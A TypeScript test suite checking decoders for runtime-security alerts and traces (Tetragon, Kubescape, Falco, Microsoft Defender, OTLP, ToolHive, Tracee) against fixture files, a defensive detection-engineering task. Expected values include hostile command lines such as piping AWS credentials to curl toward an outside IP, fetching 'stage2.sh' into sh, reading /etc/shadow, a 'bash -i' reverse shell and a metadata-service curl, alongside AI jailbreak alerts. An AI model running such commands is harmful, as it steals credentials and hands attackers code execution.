/**
 * Every decoder over our own fixtures (test/fixtures/<source>/, written from the public formats;
 * each folder's README.md says which). Per file: how many records are delivered, dropped or
 * rejected, and with which reason; per format: the fields and quirks each decoder must read. The
 * expected values come from the fixture text and the format, not from a run of the decoders.
 */
import { describe, expect, it } from 'vitest';
import type { RuntimeEvent } from '../../../src/model/event.ts';
import { ingest, type IngestOutput } from '../../../src/ingest/ingest.ts';
import { fixtureFiles, readFixture } from '../../helpers/fixtures.ts';
import { feed, finish, newRun, signals } from '../../helpers/pipeline.ts';

function decode(file: string): IngestOutput {
  return ingest([{ body: readFixture(file), input: file }], {
    decode: { cluster: 'aks-test', redaction: { excerpts: false, excerptLength: 64 } },
    limits: { maxRecordBytes: 1024 * 1024, maxDepth: 64 },
    signals: signals(),
    now: () => 0,
  });
}

/** Decoded events: those routed to the workload stage, then alert episodes, then health notices. */
function events(file: string): RuntimeEvent[] {
  const out = decode(file);
  return [...out.workloadEvents.map((k) => k.event), ...out.episodes.flatMap((k) => k.episode.evidence), ...out.health];
}

const at = (iso: string) => Date.parse(iso);

/** Expected outcome per fixture file: delivered count and reasons for what is not delivered. */
const EXPECTED: Record<
  string,
  { delivered: number; rejected?: Record<string, number>; dropped?: Record<string, number> }
> = {
  // 4 execs, 3 exits, 3 file hooks, tcp_connect, tcp_close = 12 events; throttle and rate limit = 2
  // health notices; a loader and a tracepoint without file or socket argument are filtered.
  'tetragon/export.jsonl': { delivered: 14, dropped: { filtered: 2 } },
  'tetragon/enterprise-connect.jsonl': { delivered: 3 },
  'tetragon/exec-corrupted-parent.json': { delivered: 1 },
  'tetragon/kprobe-syscall-read.json': { delivered: 1 },
  'kubescape/runtime-alerts-http.json': { delivered: 2 },
  'kubescape/runtime-alerts-stdout.jsonl': { delivered: 2 },
  'kubescape/alert-limit-reached.json': { delivered: 1 },
  'falco/json-output.jsonl': { delivered: 3 },
  // The duplicate uuid is delivered twice here; the workload stage drops the copy.
  'falco/falcosidekick.jsonl': { delivered: 3 },
  'falco/internal-events.jsonl': { delivered: 0, dropped: { 'falco-internal': 2 } },
  'defender/continuous-export-k8s-alert.json': { delivered: 1 },
  'defender/continuous-export-ai-alert.json': { delivered: 1 },
  'defender/continuous-export-arm.json': { delivered: 1 },
  'defender/continuous-export-non-alerts.jsonl': { delivered: 0, dropped: { 'defender-non-alert': 4 } },
  'defender/log-analytics-securityalert.json': { delivered: 2 },
  'defender/xdr-streaming.json': { delivered: 3, dropped: { 'defender-non-alert': 1 } },
  'defender/activity-log-alert.json': { delivered: 1 },
  // invoke_agent, chat, execute_tool, MCP client tools/call, and the plain HTTP client span (an
  // http.request event: what the workload calls at L7, for profiles and Cilium drafts).
  'otlp/genai-agent-trace.json': { delivered: 5 },
  'otlp/mcp-server-trace.json': { delivered: 4 },
  // OpenInference AGENT, LLM, TOOL and OpenLLMetry workflow, tool, legacy chat; RETRIEVER and task are filtered.
  'otlp/openinference-openllmetry.json': { delivered: 6, dropped: { filtered: 2 } },
  'toolhive/audit-events.jsonl': { delivered: 5, dropped: { filtered: 1 } },
  'tracee/events.jsonl': { delivered: 5, dropped: { filtered: 1 } },
};

const DECODER_FOLDERS = ['tetragon', 'kubescape', 'falco', 'defender', 'otlp', 'toolhive', 'tracee'];

describe('every fixture file', () => {
  it('has an expectation here (a new fixture needs one)', () => {
    expect(DECODER_FOLDERS.flatMap(fixtureFiles).sort()).toEqual(Object.keys(EXPECTED).sort());
  });

  for (const [file, want] of Object.entries(EXPECTED)) {
    it(`${file} → ${JSON.stringify(want)}`, () => {
      const out = decode(file);
      expect(out.report.counts.delivered).toBe(want.delivered);
      expect(out.report.reasons.rejected).toEqual(want.rejected ?? {});
      expect(out.report.reasons.dropped).toEqual(want.dropped ?? {});
      expect(out.deadLetters).toHaveLength(out.report.counts.rejected);
    });
  }
});

describe('Tetragon JSON export', () => {
  const node = 'aks-userpool-27514530-vmss000001';
  const execId = (ktime: string, pid: number) => Buffer.from(`${node}:${ktime}:${pid}`).toString('base64');
  const cid = '4f1c2d3e5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f';

  it('process_exec: exec_id lineage, 64-hex container id, pod and workload identity, nanosecond time', () => {
    const sh = events('tetragon/export.jsonl').find((e) => e.process?.pid === 9182 && e.kind === 'process.exec');
    expect(sh).toMatchObject({
      layer: 'process',
      time: at('2026-03-14T09:26:53.101Z'),
      source: { product: 'tetragon', format: 'tetragon.json' },
      workload: {
        cluster: 'aks-fixture',
        node,
        namespace: 'shop',
        pod: 'orders-api-7c9d5b8f6d-x2kqz',
        podUid: '8e1f4a2b-6c3d-4e5f-9a0b-1c2d3e4f5a6b',
        container: 'orders',
        containerId: cid,
        image: 'ghcr.io/fixture-shop/orders-api:2.8.1',
        workloadName: 'orders-api',
        workloadKind: 'Deployment',
      },
      process: {
        key: execId('259545892616006', 9182),
        parentKey: execId('259137394851602', 7741),
        pid: 9182,
        ppid: 7741,
        uid: 1000,
        cwd: '/app',
        binary: '/bin/sh',
        commandLine:
          '/bin/sh -c "cat /home/node/.aws/credentials | curl -s --data-binary @- https://203.0.113.45/collect"',
        parentBinary: '/usr/local/bin/node',
        startTime: at('2026-03-14T09:26:53.101Z'),
        parentStartTime: at('2026-03-14T09:20:05.604Z'),
      },
    });
  });

  it('process_kprobe file hooks: the permission mask, mmap, and a path_arg', () => {
    const files = events('tetragon/export.jsonl').filter((e) => e.layer === 'file');
    expect(files.map((e) => [e.kind, e.file?.path, e.file?.operation, e.process?.pid])).toEqual([
      ['file.mmap', '/usr/lib/x86_64-linux-gnu/libssl.so.3', 'mmap', 7741],
      ['file.open', '/app/logs/access.log', 'open', 7741],
      ['file.read', '/home/node/.aws/credentials', 'read', 9183],
    ]);
  });

  it('tcp_connect and tcp_close: sock_arg endpoints, IPPROTO_ prefix dropped', () => {
    const net = events('tetragon/export.jsonl').filter((e) => e.layer === 'network');
    expect(net.map((e) => e.kind)).toEqual(['network.connect', 'network.close']);
    for (const e of net)
      expect(e.network).toEqual({
        srcIp: '10.244.1.37',
        srcPort: 51834,
        dstIp: '203.0.113.45',
        dstPort: 443,
        protocol: 'TCP',
      });
    expect(net[0]!.process?.key).toBe(execId('259545894290241', 9184));
  });

  it('process_exit, whatever the exit status or signal', () => {
    const exits = events('tetragon/export.jsonl').filter((e) => e.kind === 'process.exit');
    expect(exits.map((e) => [e.process?.binary, e.time])).toEqual([
      ['/bin/cat', at('2026-03-14T09:26:53.104Z')],
      ['/usr/bin/curl', at('2026-03-14T09:26:53.390Z')],
      ['/bin/sh', at('2026-03-14T09:26:53.391Z')],
    ]);
  });

  it('process_throttle and rate_limit_info become health notices of upstream loss, with the count as a uint64 string gives it', () => {
    const health = events('tetragon/export.jsonl').filter((e) => e.layer === 'health');
    expect(health).toMatchObject([
      {
        kind: 'health.upstream-loss',
        workload: { cluster: 'aks-fixture', node },
        health: { reason: 'tetragon-cgroup-throttle', detail: expect.stringContaining('THROTTLE_START') },
      },
      { kind: 'health.upstream-loss', health: { reason: 'tetragon-export-rate-limit', count: 412 } },
    ]);
  });

  it('an older syscall hook: the path without its leading slash is normalised, cluster from the input', () => {
    const [e] = events('tetragon/kprobe-syscall-read.json');
    expect(e).toMatchObject({
      kind: 'file.read',
      time: at('2026-03-14T02:00:11.679Z'),
      file: { path: '/var/lib/report/config.yaml', operation: 'read' },
      workload: {
        cluster: 'aks-test',
        namespace: 'reporting',
        pod: 'nightly-report-29017440-k4z7p',
        containerId: 'b7e3a91c0d2f4e6a8b1c3d5e7f9a0b2c4d6e8f0a1b3c5d7e9f1a2b4c6d8e0f13',
      },
    });
    expect(e?.workload.workloadName).toBeUndefined();
  });

  it('the intact parent.exec_id wins over a corrupted parent_exec_id; no top-level time means the start time', () => {
    const [e] = events('tetragon/exec-corrupted-parent.json');
    expect(e).toMatchObject({
      kind: 'process.exec',
      time: at('2026-03-14T11:42:07.815Z'),
      workload: { cluster: 'aks-test', node: 'build-vm-07', containerId: '9c0e4b7a2d5f8e1b3c6a9d0f2e5b8c1' },
      process: {
        parentKey: Buffer.from('build-vm-07:5120031000412:14211').toString('base64'),
        parentBinary: '/bin/bash',
      },
    });
  });

  it('process_listen, process_connect and process_close (enterprise format): source and destination', () => {
    expect(events('tetragon/enterprise-connect.jsonl').map((e) => [e.kind, e.network])).toEqual([
      ['network.listen', { srcIp: '0.0.0.0', srcPort: 9001, protocol: 'TCP' }],
      [
        'network.connect',
        { srcIp: '172.17.0.4', srcPort: 40112, dstIp: '198.51.100.14', dstPort: 22, protocol: 'TCP' },
      ],
      ['network.close', { srcIp: '172.17.0.4', srcPort: 40112, dstIp: '198.51.100.14', dstPort: 22, protocol: 'TCP' }],
    ]);
  });
});

describe('Kubescape node-agent alerts', () => {
  it('HTTP exporter envelope: each alert of the bulk, with its chain from the merged processTree (childrenMap keys comm␟pid)', () => {
    const [shell, egress] = events('kubescape/runtime-alerts-http.json');
    const workload = {
      cluster: 'aks-fixture',
      namespace: 'finance',
      pod: 'ledger-api-5f7d8c9b6c-hm4vn',
      podUid: '3c5e7a9b-1d2f-4a6c-8e0b-2d4f6a8c0e1b',
      container: 'ledger',
      containerId: 'e2a4c6e8f0b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3',
      node: 'aks-userpool-27514530-vmss000003',
      workloadKind: 'Deployment',
      workloadName: 'ledger-api',
      image: 'ghcr.io/fixture-bank/ledger-api:3.2.0',
    };
    expect(shell).toMatchObject({
      kind: 'alert',
      layer: 'alert',
      time: at('2026-03-14T10:14:31.208Z'),
      source: { product: 'kubescape', format: 'kubescape.runtimealerts' },
      workload,
      process: {
        pid: 31877,
        ppid: 31402,
        binary: '/bin/sh',
        commandLine: '/bin/sh -c curl -s http://198.51.100.77:8080/stage2.sh | sh',
        user: 'ledger',
        uid: 1001,
      },
      alert: {
        vendor: 'kubescape',
        type: 'R0001',
        name: 'Unexpected process launched',
        severity: 'Low',
        tactics: ['Execution'],
        techniques: ['T1059'],
        description: 'Unexpected process launched: sh with PID 31877',
      },
    });
    expect(shell?.ancestors?.map((a) => [a.pid, a.binary])).toEqual([
      [31402, '/opt/java/openjdk/bin/java'],
      [31877, '/bin/sh'],
    ]);
    expect(shell?.process?.parentKey).toBe(shell?.ancestors?.[0]?.key);
    expect(egress).toMatchObject({
      workload,
      process: { pid: 31880, binary: '/usr/bin/curl' },
      network: { dstIp: '198.51.100.77', dstPort: 8080, protocol: 'TCP' },
      alert: { type: 'R0011', severity: 'Medium', tactics: ['Exfiltration'], techniques: ['T1041'] },
    });
    expect(egress?.ancestors?.map((a) => a.pid)).toEqual([31402, 31877, 31880]);
    expect(egress?.process?.parentKey).toBe(shell?.process?.key);
  });

  it('stdout exporter line: BaseRuntimeMetadata, RuntimeK8sDetails (workload kind in any case) and the process tree', () => {
    const [token, dns] = events('kubescape/runtime-alerts-stdout.jsonl');
    expect(token).toMatchObject({
      kind: 'alert',
      time: at('2026-03-14T10:31:07.551Z'),
      source: { format: 'kubescape.stdout' },
      workload: {
        cluster: 'aks-fixture',
        namespace: 'agents',
        pod: 'support-agent-6d8f7b9c5d-p2x9k',
        container: 'agent',
        workloadKind: 'Deployment',
        workloadName: 'support-agent',
      },
      process: { pid: 44120, binary: '/usr/local/bin/python3.12', commandLine: 'python -m support_agent.main' },
      file: { path: '/run/secrets/kubernetes.io/serviceaccount/..2026_03_14_06_12_33.804417290/token' },
      alert: { type: 'R0006', severity: 'Medium', tactics: ['CredentialAccess'], techniques: ['T1528'] },
    });
    expect(dns).toMatchObject({
      network: {
        domain: 'paste.fixture-exfil.example.',
        dstIp: '203.0.113.99',
        dstPort: 53,
        protocol: 'UDP',
        addresses: ['203.0.113.99'],
      },
      alert: { type: 'R0005', severity: 'Low', tactics: ['CommandAndControl'] },
    });
  });

  it('AlertLimitReached is a health notice, not an alert', () => {
    const [limit] = events('kubescape/alert-limit-reached.json');
    expect(limit).toMatchObject({
      layer: 'health',
      kind: 'health.alert-limit',
      workload: { cluster: 'aks-fixture', node: 'aks-userpool-27514530-vmss000003' },
      health: { reason: 'kubescape-alert-limit' },
    });
    expect(limit?.alert).toBeUndefined();
  });
});

describe('Falco and Falcosidekick', () => {
  it('json_output: per-rule output fields, 12-char container id, priority, MITRE tags, file from fd.name', () => {
    const [shadow, shell, api] = events('falco/json-output.jsonl');
    expect(shadow).toMatchObject({
      kind: 'alert',
      time: at('2026-03-14T10:52:17.402Z'),
      source: { product: 'falco', format: 'falco.json' },
      workload: {
        cluster: 'aks-test',
        namespace: 'billing',
        pod: 'billing-worker-6b8f9c7d5d-q7wzt',
        container: 'worker',
        containerId: '5d6c7e8f9a0b',
        node: 'aks-userpool-27514530-vmss000002',
        image: 'ghcr.io/fixture-shop/billing-worker:5.0.3',
      },
      process: {
        pid: 20411,
        ppid: 20400,
        binary: '/usr/bin/cat',
        commandLine: 'cat /etc/shadow',
        parentBinary: 'bash',
      },
      file: { path: '/etc/shadow' },
      alert: {
        vendor: 'falco',
        type: 'Read sensitive file untrusted',
        severity: 'Medium',
        tactics: ['CredentialAccess'],
        techniques: ['T1555'],
      },
    });
    // proc.pid.ts/proc.ppid.ts (append_output) give start times; container.full_id the full id.
    expect(shell).toMatchObject({
      workload: { containerId: '5d6c7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d' },
      process: { pid: 20400, startTime: at('2026-03-14T10:51:58.117Z') },
      alert: { severity: 'Low', tactics: ['Execution'], techniques: ['T1059'] },
    });
    expect(shell?.process?.key).not.toBe(shadow?.process?.key);
    expect(api?.network).toEqual({
      srcIp: '10.244.2.18',
      srcPort: 51522,
      dstIp: '10.0.0.1',
      dstPort: 443,
      protocol: 'TCP',
    });
    expect(api?.file).toBeUndefined();
  });

  it('Falcosidekick: the uuid is the event id, so the Event Hub double send carries one id twice', async () => {
    const [first, second, c2] = events('falco/falcosidekick.jsonl');
    expect(first).toMatchObject({
      id: 'falco:6f1d2c3b-4a5e-4f60-8b71-92a3b4c5d6e7',
      source: { format: 'falcosidekick' },
      process: { binary: '/tmp/.cache/kworkerd', user: 'app', uid: 10001 },
      alert: { severity: 'High', tactics: ['Persistence'] },
    });
    expect(second?.id).toBe(first?.id);
    // Past ingest, the workload stage keeps one of the two.
    const run = await finish(
      await feed(newRun(), [{ body: readFixture('falco/falcosidekick.jsonl'), input: 'falco' }]),
    );
    expect(run.records.counts.delivered).toBe(3);
    expect(run.stages.reasons.dropped).toMatchObject({ duplicate: 1 });
    expect(c2).toMatchObject({
      network: { dstIp: '198.51.100.23', dstPort: 3333, protocol: 'TCP', domain: 'pool.fixture-mine.example' },
      alert: { severity: 'Medium', tactics: ['CommandAndControl'] },
    });
  });
});

describe('Microsoft Defender', () => {
  it('continuous export, flat PascalCase: a Defender for Containers alert with its $id/$ref entity graph resolved', () => {
    const [e] = events('defender/continuous-export-k8s-alert.json');
    expect(e).toMatchObject({
      kind: 'alert',
      layer: 'alert',
      time: at('2026-03-14T12:07:41.552Z'),
      source: { product: 'defender', format: 'defender.continuous-export' },
      workload: {
        cluster: 'aks-fixture',
        namespace: 'payments',
        pod: 'payment-gateway-7b9c4d6f8d-r5t2m',
        container: 'gateway',
        image: 'ghcr.io/fixture-pay/gateway:4.4.1',
        node: 'aks-userpool-27514530-vmss000005',
      },
      // ProcessId is hex; the image file and the account are references into the graph.
      process: { pid: 0x7d4a, binary: '/usr/bin/bash', commandLine: 'bash -i', user: 'www-data' },
      network: { dstIp: '198.51.100.61' },
      alert: {
        vendor: 'defender',
        type: 'K8S.NODE_ReverseShell',
        name: 'Potential reverse shell detected',
        severity: 'Medium',
        // "Exfiltration, Exploitation": Exploitation is Defender's, not an ATT&CK tactic.
        tactics: ['Exfiltration'],
        nativeId: '2516398441477089321_5e7f9a1b-3c5d-4e7f-9a1b-3c5d7e9f1a2b',
        azureResourceId:
          '/subscriptions/0f1e2d3c-4b5a-4697-8877-665544332211/resourceGroups/rg-fixture-aks/providers/Microsoft.ContainerService/managedClusters/aks-fixture',
      },
    });
    expect(e?.alert?.details).toMatchObject({ 'suspicious command line': 'bash -i' });
    // The JSON-string investigation link is not a detail.
    expect(Object.keys(e?.alert?.details ?? {})).not.toContain('investigation steps');
  });

  it('continuous export, flat: a Defender for AI alert is a prompt-layer event with the user context from its entities', () => {
    const out = decode('defender/continuous-export-ai-alert.json');
    expect(out.workloadEvents).toEqual([]);
    expect(out.episodes[0]?.episode.evidence[0]).toMatchObject({
      layer: 'prompt',
      kind: 'alert',
      time: at('2026-03-14T09:58:12.221Z'),
      workload: { cluster: 'aks-test' },
      alert: {
        type: 'AI.Azure_Jailbreak.ContentFiltering.DetectedAttempt',
        severity: 'Medium',
        tactics: ['PrivilegeEscalation', 'DefenseEvasion'],
        applicationName: 'support-portal',
        sourceIp: '203.0.113.150',
        endUser: '4b8e2c1a-9d7f-4e3b-a5c6-1d2e3f4a5b6c',
      },
    });
    expect(out.episodes[0]?.episode.evidence[0]?.network).toBeUndefined();
  });

  it('the ARM shape (properties.*, camelCase): the agentic alert without the AI. prefix, context from extendedProperties', () => {
    const [e] = events('defender/continuous-export-arm.json');
    expect(e).toMatchObject({
      layer: 'prompt',
      time: at('2026-03-14T10:02:33.118Z'),
      source: { format: 'defender.arm' },
      alert: {
        type: 'Azure_Agentic_BlockedJailbreak',
        name: '(Preview) A Jailbreak attempt on your Azure AI agent was blocked by Prompt Shields',
        severity: 'Medium',
        tactics: ['PrivilegeEscalation'],
        nativeId: '2516398461002234567_2d4f6a8c-0e1b-4d3f-a5c7-e9b1d3f5a7c9',
        applicationName: 'support-portal',
        sourceIp: '203.0.113.150',
        endUser: '4b8e2c1a-9d7f-4e3b-a5c6-1d2e3f4a5b6c',
        azureResourceId:
          '/subscriptions/0f1e2d3c-4b5a-4697-8877-665544332211/resourceGroups/rg-fixture-ai/providers/Microsoft.CognitiveServices/accounts/aif-fixture/projects/support',
      },
    });
  });

  it('Log Analytics SecurityAlert export: rows in records[], Entities and Techniques as JSON strings', () => {
    const [imds, phishing] = events('defender/log-analytics-securityalert.json');
    expect(imds).toMatchObject({
      layer: 'alert',
      time: at('2026-03-14T12:15:08.000Z'),
      source: { format: 'defender.securityalert-row' },
      workload: {
        cluster: 'aks-fixture',
        namespace: 'agents',
        pod: 'kb-tools-84c6d9f7b5-zt6mw',
        container: 'mcp',
        image: 'ghcr.io/fixture-ai/kb-tools:2.1.0',
      },
      process: { pid: 61305 },
      network: { dstIp: '169.254.169.254' },
      alert: {
        type: 'K8S.NODE_ImdsCall',
        name: 'Access to cloud metadata service detected',
        severity: 'Medium',
        tactics: ['CredentialAccess'],
        techniques: ['T1552', 'T1552.005'],
      },
    });
    expect(imds?.process?.commandLine).toMatch(/^curl -s -H Metadata:true http:\/\/169\.254\.169\.254\//);
    expect(phishing).toMatchObject({
      layer: 'prompt',
      alert: {
        type: 'AI.Azure_MaliciousUrl.UserPrompt',
        severity: 'High',
        tactics: ['Collection'],
        techniques: [],
        sourceIp: '198.51.100.200',
        applicationName: 'docs-assistant',
      },
    });
  });

  it('XDR streaming: AlertInfo with ATT&CK techniques from a JSON string, AlertEvidence per entity', () => {
    const alertId = 'da638777612345678901_-1234567890';
    const [info, file, ip] = events('defender/xdr-streaming.json');
    expect(info).toMatchObject({
      time: at('2026-03-14T12:58:40.119Z'),
      source: { format: 'defender.xdr-alertinfo', nativeId: alertId },
      alert: {
        type: 'XDR:Microsoft Defender for Endpoint:EDR',
        name: 'Suspicious access to the password database',
        severity: 'High',
        tactics: ['CredentialAccess'],
        techniques: ['T1003', 'T1003.008'],
      },
    });
    expect(file).toMatchObject({
      source: { format: 'defender.xdr-alertevidence', nativeId: `${alertId}:evidence:File:shadow` },
      process: { commandLine: 'cp /etc/shadow /tmp/.s' },
      alert: { name: `Evidence (File) for alert ${alertId}`, severity: 'Informational', nativeId: alertId },
    });
    expect(ip).toMatchObject({
      source: { nativeId: `${alertId}:evidence:Ip:198.51.100.88` },
      alert: { sourceIp: '198.51.100.88' },
    });
  });

  it('the Activity Log form: the event name as the alert, intent from a JSON-string array', () => {
    const [e] = events('defender/activity-log-alert.json');
    expect(e).toMatchObject({
      time: at('2026-03-14T08:44:19.335Z'),
      source: { format: 'defender.activity-log' },
      workload: { cluster: 'aks-test', namespace: 'kubernetes-dashboard' },
      alert: {
        type: 'ActivityLog:Exposed Kubernetes dashboard detected',
        name: 'Exposed Kubernetes dashboard detected',
        severity: 'High',
        tactics: ['InitialAccess'],
        nativeId: '2516398290001234567_8f9a0b1c-2d3e-4f5a-b6c7-d8e9f0a1b2c3',
      },
    });
  });
});

describe('OTLP/JSON traces', () => {
  const agentWorkload = {
    cluster: 'aks-test',
    namespace: 'agents',
    pod: 'support-agent-6d8f7b9c5d-p2x9k',
    podUid: 'a1c3e5b7-d9f1-4a3c-9e5b-7d9f1a3c5e7b',
    podIp: '10.244.3.41',
    container: 'agent',
    containerId: '0a2c4e6f8b1d',
    node: 'aks-userpool-27514530-vmss000000',
    workloadKind: 'Deployment',
    workloadName: 'support-agent',
    image: 'ghcr.io/fixture-ai/support-agent',
    serviceName: 'support-agent',
  };

  it('GenAI spans by gen_ai.operation.name: invoke_agent, chat, execute_tool; hex ids lower-cased; k8s resource attributes', () => {
    const [agent, chat, tool] = events('otlp/genai-agent-trace.json');
    expect(agent).toMatchObject({
      layer: 'agent',
      kind: 'agent.invoke',
      time: at('2026-03-14T10:30:55.000Z'),
      workload: agentWorkload,
      trace: {
        traceId: '4f2a9c1e0b7d4e3f8a6c5b2d1e0f9a8b',
        spanId: '1a2b3c4d5e6f7081',
        spanKind: 'INTERNAL',
        operation: 'invoke_agent',
        agentName: 'support-agent',
        agentId: 'asst_Q3m8VtX1bZ6nR2kL9pW4sY7c',
        conversationId: 'conv_7Hk2Lm9Np4Qr6St8Vw1Xy3Za',
        model: 'gpt-4o',
      },
    });
    // An empty parentSpanId is a root span.
    expect(agent?.trace?.parentSpanId).toBeUndefined();
    // Times given as JSON numbers instead of strings read the same.
    expect(chat).toMatchObject({
      kind: 'llm.chat',
      time: 1773484255104,
      trace: {
        spanKind: 'CLIENT',
        parentSpanId: '1a2b3c4d5e6f7081',
        startTime: 1773484255104,
        endTime: 1773484257408,
        serverAddress: 'oai-fixture-weu.openai.azure.com',
      },
    });
    // Prompts leave only as a summary: hash, length and tags, no text.
    expect(chat?.content?.tags).toEqual(
      expect.arrayContaining(['contains-url', 'contains-ip', 'contains-sensitive-path', 'injection-phrasing']),
    );
    expect(chat?.content?.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(chat?.content?.excerpt).toBeUndefined();
    expect(tool).toMatchObject({
      kind: 'tool.execute',
      trace: { toolName: 'search_kb', toolCallId: 'call_pR4tY7uI0oP3aS6dF9gH2jK5', operation: 'execute_tool' },
      content: { length: '{"query":"double charge order 5521","top_k":3}'.length },
    });
  });

  it('MCP client span: protocol layer, method, tool, JSON-RPC id, session, server', () => {
    const mcp = events('otlp/genai-agent-trace.json')[3];
    expect(mcp).toMatchObject({
      layer: 'protocol',
      kind: 'mcp.request',
      workload: agentWorkload,
      trace: {
        spanKind: 'CLIENT',
        operation: 'execute_tool',
        mcpMethod: 'tools/call',
        toolName: 'search_kb',
        jsonRpcId: '7',
        mcpSessionId: '5d1f8a2c9e4b4c7d8a0f3e6b9c2d5a8f',
        serverAddress: 'kb-tools.agents.svc.cluster.local',
      },
    });
  });

  it('MCP server spans: the caller address, a tool error, methods without a tool, a StatefulSet workload', () => {
    const spans = events('otlp/mcp-server-trace.json');
    for (const e of spans)
      expect(e).toMatchObject({
        kind: 'mcp.request',
        workload: {
          namespace: 'tools',
          pod: 'docs-mcp-0',
          workloadKind: 'StatefulSet',
          workloadName: 'docs-mcp',
          containerId: '6e8f0a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9d1e3f5a7b9c1d3e5f7a9b1c3d5e7f',
        },
        trace: { spanKind: 'SERVER', clientAddress: '10.244.3.41', mcpSessionId: 'c7a1e4b8d2f64a9e8b3c5d7f1a2e4b6c' },
      });
    expect(spans.map((e) => [e.trace?.mcpMethod, e.trace?.toolName, e.trace?.status, e.trace?.errorType])).toEqual([
      ['tools/list', undefined, undefined, undefined],
      ['tools/call', 'search_docs', undefined, undefined],
      ['tools/call', 'fetch_url', 'error', 'tool_error'],
      ['resources/read', undefined, undefined, undefined],
    ]);
  });

  it('OpenInference and OpenLLMetry aliases map to the same kinds and fields', () => {
    const [agent, llm, tool, workflow, runbook, chat] = events('otlp/openinference-openllmetry.json');
    expect(agent).toMatchObject({
      kind: 'agent.invoke',
      workload: { workloadName: 'research-agent', serviceName: 'research-agent' },
      trace: { agentName: 'research-agent', conversationId: 'sess-20260314-0042', endUser: 'u-3302' },
    });
    // openinference.span.kind in lower case.
    expect(llm).toMatchObject({ kind: 'llm.chat', trace: { model: 'gpt-4o-mini' } });
    expect(tool).toMatchObject({
      kind: 'tool.execute',
      trace: { toolName: 'read_report', toolCallId: 'call_Zx8Cv7Bn6Mm5' },
    });
    expect(workflow).toMatchObject({ kind: 'agent.invoke', trace: { agentName: 'triage' } });
    expect(runbook).toMatchObject({ kind: 'tool.execute', trace: { toolName: 'lookup_runbook', jsonRpcId: '21' } });
    // A legacy span with only gen_ai.system is a model call.
    expect(chat).toMatchObject({ kind: 'llm.chat', trace: { model: 'gpt-4o-mini' } });
  });
});

describe('ToolHive audit events', () => {
  it('an MCP tool call with its caller, session and request id; the time is when the call started', () => {
    const calls = events('toolhive/audit-events.jsonl');
    expect(calls[2]).toMatchObject({
      kind: 'mcp.request',
      layer: 'protocol',
      time: at('2026-03-14T10:31:03.664Z') - 312,
      source: { product: 'toolhive', nativeId: '0f1e2d3c-aaaa-4bbb-8ccc-000000000003' },
      workload: { cluster: 'aks-test', serviceName: 'fetch' },
      trace: {
        spanKind: 'SERVER',
        operation: 'execute_tool',
        mcpMethod: 'tools/call',
        toolName: 'fetch',
        mcpSessionId: '8b0d2f4a6c8e4a0c9e2b4d6f8a0c2e4b',
        jsonRpcId: '3',
        clientAddress: '10.244.3.41',
        endUser: 'spn-1f3a5c7e',
        agentName: 'support-agent',
        startTime: at('2026-03-14T10:31:03.664Z') - 312,
        endTime: at('2026-03-14T10:31:03.664Z'),
      },
    });
  });

  it('other MCP operations, an application error, and a local caller without a user', () => {
    const [init, list, , failed, local] = events('toolhive/audit-events.jsonl');
    expect(init?.trace).toMatchObject({ operation: 'mcp_initialize', mcpMethod: 'initialize' });
    expect(init?.trace?.toolName).toBeUndefined();
    expect(list?.trace).toMatchObject({ operation: 'mcp_tools_list', mcpMethod: 'tools/list' });
    expect(failed?.trace).toMatchObject({ status: 'error', errorType: 'application_error' });
    expect(local).toMatchObject({
      workload: { serviceName: 'github' },
      trace: { toolName: 'list_issues', clientAddress: '127.0.0.1', agentName: 'claude-code' },
    });
    expect(local?.trace?.endUser).toBeUndefined();
  });
});

describe('Tracee events', () => {
  it('execve with argv, a file open, a DNS answer, a connect and the exit, on one entity-id lineage', () => {
    const [exec, open, dns, connect, exit] = events('tracee/events.jsonl');
    expect(exec).toMatchObject({
      kind: 'process.exec',
      time: 1773487201004,
      workload: {
        cluster: 'aks-test',
        node: 'aks-userpool-27514530-vmss000002',
        namespace: 'shop',
        pod: 'catalog-importer-5b7d9f1c3e-h6j8k',
        podUid: 'e8a0c2e4-a6c8-4e0a-b2c4-e6a8c0e2a4c6',
        container: 'importer',
        containerId: 'f3a5c7e9b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a5',
        image: 'ghcr.io/fixture-shop/catalog-importer:1.2.3',
      },
      process: {
        pid: 70214,
        ppid: 70190,
        binary: '/usr/bin/wget',
        commandLine: 'wget -q -O /tmp/x http://203.0.113.70/x',
      },
    });
    expect(open).toMatchObject({
      kind: 'file.open',
      file: { path: '/etc/resolv.conf' },
      process: { binary: '/usr/bin/wget' },
    });
    expect(dns).toMatchObject({
      kind: 'dns.query',
      network: { domain: 'mirror.fixture-cdn.example', addresses: ['203.0.113.70'], srcIp: '10.0.0.10' },
    });
    expect(connect).toMatchObject({ kind: 'network.connect', network: { dstIp: '203.0.113.70', dstPort: 80 } });
    expect(exit?.kind).toBe('process.exit');
    const keys = new Set([exec, open, dns, connect, exit].map((e) => e?.process?.key));
    expect(keys.size).toBe(1);
    expect(exec?.process?.parentKey).toBeDefined();
    expect(exec?.process?.parentKey).not.toBe(exec?.process?.key);
  });
});
